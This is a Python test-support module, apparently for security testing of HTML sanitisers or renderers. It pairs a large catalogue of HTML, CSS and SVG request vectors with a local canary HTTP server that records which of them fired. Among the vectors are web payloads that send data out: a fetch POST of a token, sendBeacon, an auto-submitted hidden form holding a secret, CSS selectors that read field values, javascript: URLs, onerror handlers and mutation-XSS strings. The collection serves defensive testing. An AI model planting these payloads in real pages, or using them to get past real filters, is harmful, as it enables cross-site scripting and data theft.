# ruff: noqa: E501 - one way to a line.
"""A service that tries in every way we know to be asked for something, and the server that notes when it was."""

import re
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

# How each tries, by name; HIT is replaced by an address of the canary that ends in the name.
HEAD = {
    "base": '<base href="HIT/">',
    "meta-refresh": '<meta http-equiv="refresh" content="1;url=HIT">',
    "link-stylesheet": '<link rel="stylesheet" href="HIT">',
    "link-prefetch": '<link rel="prefetch" href="HIT">',
    "link-preload": '<link rel="preload" as="image" href="HIT">',
    "link-modulepreload": '<link rel="modulepreload" href="HIT">',
    "link-icon": '<link rel="icon" href="HIT">',
    "link-manifest": '<link rel="manifest" href="HIT">',
    "link-prerender": '<link rel="prerender" href="HIT">',
    "link-dictionary": '<link rel="compression-dictionary" href="HIT">',
    "speculation-rules": '<script type="speculationrules">{"prefetch": [{"urls": ["HIT"], "eagerness": "immediate"}]}</script>',
    "import-map": '<script type="importmap">{"imports": {"hit": "HIT"}}</script><script type="module">import "hit"</script>',
    "script-source": '<script src="HIT"></script>',
    "script-fetch": '<script>fetch("HIT")</script>',
    "script-post": '<script>fetch("HIT", {method: "POST", body: "token", keepalive: true})</script>',
    "script-beacon": '<script>navigator.sendBeacon("HIT", "x")</script>',
    "script-image": '<script>new Image().src = "HIT"</script>',
    "script-request": '<script>const r = new XMLHttpRequest(); r.open("GET", "HIT"); r.send()</script>',
    "script-socket": '<script>new WebSocket("HIT".replace("http", "ws"))</script>',
    "script-events": '<script>new EventSource("HIT")</script>',
    "script-worker": '<script>try { new Worker("HIT") } catch {}</script>',
    "script-service-worker": '<script>navigator.serviceWorker.register("HIT")</script>',
    "script-import": '<script>import("HIT").catch(() => {})</script>',
    "script-location": '<script>setTimeout(() => { location = "HIT" }, 1200)</script>',
    "script-submit": '<script>addEventListener("load", () => document.getElementById("to-submit").submit())</script>',
    "script-font": '<script>new FontFace("hit", "url(HIT)").load().catch(() => {})</script>',
    "css-import": "<style>@import 'HIT';</style>",
    "css-import-url": '<style>@import url("HIT") layer(x);</style>',
    "css-background": "<style>body { background: url(HIT) }</style>",
    "css-escaped": r"<style>h1 { background: \75\72l(HIT) }</style>",
    "css-image-set": "<style>h2 { background: image-set('HIT' 1x) }</style>",
    "css-variable": "<style>:root { --u: 'HIT' } h3 { background: image-set(var(--u) 1x) }</style>",
    "css-font": "<style>@font-face { font-family: hit; src: url(HIT) } h4 { font-family: hit }</style>",
    "css-list": "<style>li { list-style: url(HIT) }</style>",
    "css-content": "<style>p::before { content: url(HIT) }</style>",
    "css-border": "<style>p { border: 1px solid; border-image: url(HIT) 1 }</style>",
    "css-mask": "<style>p { mask: url(HIT) }</style>",
    "css-filter": "<style>h5 { filter: url(HIT#f) }</style>",
    "css-clip": "<style>h6 { clip-path: url(HIT#c) }</style>",
    "css-shape": "<style>em { float: left; shape-outside: url(HIT) }</style>",
    "css-cursor": "<style>body { cursor: url(HIT), auto }</style>",
    "css-cross-fade": "<style>i { background: -webkit-cross-fade(url(HIT), url(HIT), 50%) }</style>",
    "css-nested": "<style>@media all { @supports (color: red) { b { & { background: url(HIT) } } } }</style>",
    "css-keyframes": "<style>u { animation: k 1s infinite } @keyframes k { to { background: url(HIT) } }</style>",
    "css-property": '<style>@property --p { syntax: "<image>"; inherits: true; initial-value: url(HIT) } s { background: var(--p) }</style>',
    "css-reads-fields": '<style>input[value^="s"] { background: url(HIT) }</style>',
    "css-hover": "<style>a:focus { background: url(HIT) }</style>",
}
BODY = {
    "text": "<h1>1</h1><h2>2</h2><h3>3</h3><h4>4</h4><h5>5</h5><h6>6</h6><ul><li>x</ul><p>x <em>e</em><i>i</i><b>b</b><u>u</u><s>s</s>",
    "relative-image": '<img src="relative.png">',
    "image": '<img src="HIT">',
    "image-set": '<img srcset="HIT 1x" sizes="1px">',
    "image-lazy": '<img loading="lazy" src="HIT">',
    "image-error": """<img src="x:" onerror="fetch('HIT')">""",
    "image-attribution": '<img attributionsrc="HIT" src="data:,">',
    "picture": '<picture><source srcset="HIT"><img></picture>',
    "video": '<video src="HIT" autoplay muted></video>',
    "video-poster": '<video poster="HIT"></video>',
    "video-source": '<video preload="auto"><source src="HIT"></video>',
    "video-track": '<video src="data:,"><track default src="HIT"></video>',
    "audio": '<audio src="HIT" preload="auto"></audio>',
    "object": '<object data="HIT"></object>',
    "embed": '<embed src="HIT">',
    "frame": '<iframe src="HIT"></iframe>',
    "frame-document": """<iframe srcdoc="<img src='HIT'><script>fetch('HIT')</script>"></iframe>""",
    "frame-program": """<iframe src="javascript:fetch('HIT')"></iframe>""",
    "fenced-frame": '<fencedframe src="HIT"></fencedframe>',
    "style-attribute": '<div style="background: url(HIT)">x</div>',
    "old-background": '<table background="HIT"><tr><td background="HIT">x</table>',
    "field-image": '<input type="image" src="HIT">',
    "autofocus": """<input autofocus onfocus="fetch('HIT')">""",
    "details-toggle": """<details open ontoggle="fetch('HIT')"><summary>x</summary></details>""",
    "animation-handler": """<u onanimationiteration="fetch('HIT')">x</u>""",
    "svg-load": """<svg onload="fetch('HIT')"></svg>""",
    "svg-script": '<svg><script href="HIT"></script></svg>',
    "svg-image": '<svg><image href="HIT" width="1" height="1"/></svg>',
    "svg-image-old": '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="HIT" width="1" height="1"/></svg>',
    "svg-use": '<svg><use href="HIT#x"/></svg>',
    "svg-filter": '<svg><filter id="f"><feImage href="HIT"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    "svg-foreign": '<svg><foreignObject width="9" height="9"><img src="HIT"></foreignObject></svg>',
    "svg-fill": '<svg><rect width="9" height="9" fill="url(HIT#g)"/></svg>',
    "svg-style": "<svg><style>@import 'HIT'; rect { fill: url(HIT#x) }</style></svg>",
    "svg-animate": '<svg><image width="9" height="9"><set attributeName="href" to="HIT"/></image></svg>',
    "shadow": '<div><template shadowrootmode="open"><style>p { background: url(HIT) }</style><p>x</p><img src="HIT"></template></div>',
    "handler-in-shadow": """<div><template shadowrootmode="closed"><img src="x:" onerror="fetch('HIT')"></template></div>""",
    "field-value": '<input value="secret">',
}
PRESSED = {
    "form-submitted": '<form id="to-submit" action="HIT"><input name="token" type="hidden" value="secret"></form>',
    "link": '<a href="HIT">x</a>',
    "link-top": '<a href="HIT" target="_top">x</a>',
    "link-window": '<a href="HIT" target="_blank">x</a>',
    "link-ping": '<a href="#" ping="HIT">x</a>',
    "link-program": """<a href="javascript:fetch('HIT')">x</a>""",
    "link-download": '<a href="HIT" download>x</a>',
    "link-svg": '<svg><a href="HIT"><text y="9">x</text></a></svg>',
    "link-handler": """<a onclick="fetch('HIT')">x</a>""",
    "link-attribution": '<a href="#" attributionsrc="HIT">x</a>',
    "area": '<map name="m"><area href="HIT" coords="0,0,9,9"></map><img usemap="#m" src="data:,">',
    "form": '<form action="HIT"><input name="a" value="b"><button>x</button></form>',
    "form-post": '<form action="HIT" method="post"><input type="hidden" name="token" value="secret"><button>x</button></form>',
    "form-action-of-button": '<form><button formaction="HIT">x</button></form>',
    "form-image": '<form action="HIT"><input type="image" src="data:," alt="x"></form>',
    "form-window": '<form action="HIT" target="_blank"><button>x</button></form>',
    "form-elsewhere": '<button form="to-submit" formaction="HIT">x</button>',
    "form-handler": """<form onsubmit="fetch('HIT'); return false"><button>x</button></form>""",
    "form-program": """<form action="javascript:fetch('HIT')"><button>x</button></form>""",
    "field-handler": """<input oninput="fetch('HIT')" value="s">""",
    "choice-handler": """<select onchange="fetch('HIT')"><option>x<option>y</select>""",
    "tick-handler": """<label>x<input type="checkbox" onclick="fetch('HIT')"></label>""",
    "popover": """<button popovertarget="pop">x</button><div id="pop" popover onbeforetoggle="fetch('HIT')">x</div>""",
    "dialog": """<dialog open onclose="fetch('HIT')"><form method="dialog"><button>x</button></form></dialog>""",
    "custom": """<x-y onclick="fetch('HIT')" tabindex="0">x</x-y>""",
    "window": """<button onclick="open('HIT')">x</button>""",
    "parent": """<button onclick="top.location = 'HIT'">x</button>""",
}
# Comes last, because some swallow what follows.
BROKEN = {
    "broken-style": "<svg></p><style><img src='HIT'></style></svg>",
    "broken-title": "<svg><title><img title=\"</title><img src='HIT'>\"></title></svg>",
    "broken-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='HIT'&gt;\"></table></mtext></math>",
}
VECTORS = HEAD | BODY | PRESSED | BROKEN


def page(canary: str) -> str:
    head, body = (
        "".join(html.replace("HIT", f"{canary}/hit/{name}") for name, html in part.items())
        for part in (HEAD, BODY | PRESSED | BROKEN)
    )
    return f'<!DOCTYPE html><html><head><meta charset="utf-8">{head}</head><body>{body}</body></html>'


class Canary(ThreadingHTTPServer):
    """Shows the pages that it is given, and notes by which ways anything else was asked for.

    Copies are shown by such a server too: from a host that is not on this machine, or seems not to be, browsers let no
    page reach this machine, and nothing would be heard of whatever was in it.
    """

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.address = f"http://127.0.0.1:{self.server_port}"
        self.pages: dict[str, tuple[bytes, dict[str, str]]] = {}
        self.heard: list[str] = []

    def show(self, path: str, page: str | bytes, **headers: str) -> None:
        content = page.encode() if isinstance(page, str) else page
        kinds = {"Content-Type": "text/html; charset=utf-8"}
        self.pages[path] = (content, kinds | {name.replace("_", "-"): value for name, value in headers.items()})


class _Handler(BaseHTTPRequestHandler):
    server: Canary

    def do_GET(self) -> None:
        """What is not shown is not answered, so that a page which leads away stays."""
        if self.path not in self.server.pages:
            self.server.heard.append(re.sub(r"^/hit\d*/([^/?]*).*", r"\1", self.path))
            self.send_response(204)
            self.end_headers()
            return
        content, headers = self.server.pages[self.path]
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_HEAD = do_OPTIONS = do_CONNECT = do_GET  # noqa: N815 -- names of http.server

    def log_message(self, *_arguments: object) -> None:
        """Nothing on the terminal."""


@contextmanager
def canary() -> Iterator[Canary]:
    server = Canary()
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
